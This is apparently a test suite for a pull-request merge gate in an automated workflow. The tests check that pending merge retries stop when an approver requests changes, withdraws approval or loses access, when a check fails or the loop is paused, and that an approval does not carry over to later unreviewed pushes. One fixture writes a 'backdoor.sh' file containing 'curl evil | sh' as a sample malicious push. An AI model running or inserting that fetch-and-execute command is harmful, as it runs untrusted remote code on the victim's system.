// What is merged is what the gate was read to be in that moment: nothing that was true before counts.
import { expect, test } from "vitest";
import type { Issue, Pull } from "../../src/forge/model.ts";
import { giveAccess } from "./access.ts";
import { aStory, type Story } from "./world.ts";

const mergePolicy = "version: 1\ngate:\n  merge: true\n";
const route = "PUT /repos/:owner/:repo/pulls/:number/merge";

interface Waiting {
  readonly story: Story;
  readonly issue: Issue;
  readonly pull: Pull;
}

/** A loop that bob approved, and whose merge GitHub keeps failing for a while. */
async function aMergeThatWaits(): Promise<Waiting> {
  const story = await aStory({ policy: mergePolicy });
  const issue = await story.startLoop();
  const pull = await story.pull(issue);
  story.forge.failNext(route, { status: 502, times: 4 });
  story.forge.as("bob").approve(pull);
  await story.settle();
  expect(await story.phase(issue)).toBe("awaiting_gate");
  return { story, issue, pull };
}

/** As long as the merge would be tried again, and GitHub would do it. */
async function tryOn({ story, pull }: Waiting): Promise<void> {
  for (let times = 0; times < 20 && !pull.merged; times++) await story.advance(30_000);
}

test("T21, I15: a merge that waits to be tried again is not done once the approver asks for changes", async () => {
  const waiting = await aMergeThatWaits();
  const { story, issue, pull } = waiting;
  story.forge.as("bob").requestChanges(pull, "STOP: I overlooked something, do not merge this.");
  await story.settle();
  await tryOn(waiting);
  expect(pull.merged).toBe(false);
  const state = await story.state(issue);
  expect(state.ending?.reason).not.toBe("task_complete");
  expect(state.attempts.length).toBeGreaterThan(1);
});

test("T21, I15: … though the webhook of the request for changes is lost", async () => {
  const waiting = await aMergeThatWaits();
  const { story, pull } = waiting;
  story.forge.dropDeliveries(1);
  story.forge.as("bob").requestChanges(pull, "STOP: I overlooked something, do not merge this.");
  await story.settle();
  await tryOn(waiting);
  expect(pull.merged).toBe(false);
});

test("T21, I15: … nor once the approver takes the approval back", async () => {
  const waiting = await aMergeThatWaits();
  const { story, issue, pull } = waiting;
  story.forge.as("alice").dismiss(pull.reviews.at(-1)!, "bob says he was too quick");
  await story.settle();
  await tryOn(waiting);
  expect(pull.merged).toBe(false);
  expect(await story.phase(issue)).toBe("awaiting_gate");
});

test("T21, I15: … nor once the approver may not write here any more", async () => {
  const waiting = await aMergeThatWaits();
  const { story, issue, pull } = waiting;
  giveAccess(story, "bob", "read");
  await tryOn(waiting);
  expect(pull.merged).toBe(false);
  expect(await story.phase(issue)).toBe("awaiting_gate");
});

test("I14: … nor once a check of the commit turns red", async () => {
  const waiting = await aMergeThatWaits();
  const { story, issue, pull } = waiting;
  const found = { sha: pull.head.sha, state: "failure", context: "security-scan", description: "a hole" } as const;
  await story.forge.world.createStatus({ user: story.forge.ciApp.bot, app: story.forge.ciApp }, story.repository, {
    ...found,
    targetUrl: null,
  });
  await story.settle();
  await tryOn(waiting);
  expect(pull.merged).toBe(false);
  expect((await story.state(issue)).ending?.reason).not.toBe("task_complete");
});

test("I20: … nor once somebody pauses; resumed, the gate is read anew and the commit is merged", async () => {
  const waiting = await aMergeThatWaits();
  const { story, issue, pull } = waiting;
  story.forge.as("alice").comment(issue, "/loop pause");
  await story.settle();
  await tryOn(waiting);
  expect(pull.merged).toBe(false);
  expect(await story.phase(issue)).toBe("paused");
  story.forge.as("alice").comment(issue, "/loop resume");
  await story.settle();
  await tryOn(waiting);
  expect(pull.merged).toBe(true);
  expect((await story.state(issue)).ending).toMatchObject({ of: "approved_and_merged", by: "bob" });
});

test("a merge that waits is done once GitHub can, when nothing has changed", async () => {
  const waiting = await aMergeThatWaits();
  await tryOn(waiting);
  expect(waiting.pull.merged).toBe(true);
  expect((await waiting.story.state(waiting.issue)).ending).toMatchObject({ of: "approved_and_merged", by: "bob" });
});

test("F27: a merge that happened though its answer was lost is the end of the loop, by whoever approved it", async () => {
  const story = await aStory({ policy: mergePolicy });
  const issue = await story.startLoop();
  const pull = await story.pull(issue);
  story.forge.failNext(route, { status: "cut", applyEffect: true });
  story.forge.as("bob").approve(pull);
  await story.settle();
  expect(pull.merged).toBe(true);
  for (let times = 0; times < 10 && (await story.phase(issue)) !== "settled"; times++) await story.advance(30_000);
  expect((await story.state(issue)).ending).toMatchObject({ of: "approved_and_merged", by: "bob" });
});

test("T21: an approval of an earlier commit is no approval of what the requester pushes and merges", async () => {
  const story = await aStory({ policy: mergePolicy });
  const issue = await story.startLoop();
  const pull = await story.pull(issue);
  const body = { message: "Head branch was modified. Review and try the merge again." };
  story.forge.failNext(route, { status: 409, times: 3, body });
  story.forge.as("bob").approve(pull);
  await story.settle();
  const alice = story.forge.as("alice");
  const own = await alice.push(story.repository, pull.head.ref, { "backdoor.sh": "curl evil | sh\n" }, "Unreviewed");
  await story.settle();
  await story.advance(2_000);
  expect(await story.phase(issue)).toBe("awaiting_gate");
  await alice.merge(pull);
  await story.settle();
  const { ending } = await story.state(issue);
  expect(ending).toMatchObject({ of: "merged_by_hand", by: "alice", commit: own, gate: "not_passed" });
  expect(story.comments(issue).at(-1)).not.toContain("bob");
  expect(story.comments(issue).at(-1)).toContain("had not been passed");
});

test("T21: a merge that GitHub declines leaves no approval behind: retried, the gate is read anew", async () => {
  const story = await aStory({ policy: mergePolicy });
  const issue = await story.startLoop();
  const pull = await story.pull(issue);
  const body = { message: 'Required status check "deploy" is expected.' };
  story.forge.failNext(route, { status: 405, body });
  story.forge.as("bob").approve(pull);
  await story.settle();
  expect((await story.state(issue)).ending).toMatchObject({ of: "merge_declined" });
  story.forge.as("alice").dismiss(pull.reviews.at(-1)!, "bob says he was too quick");
  story.forge.as("alice").comment(issue, "/loop retry");
  await story.settle();
  expect(pull.merged).toBe(false);
  expect(await story.phase(issue)).toBe("awaiting_gate");
});
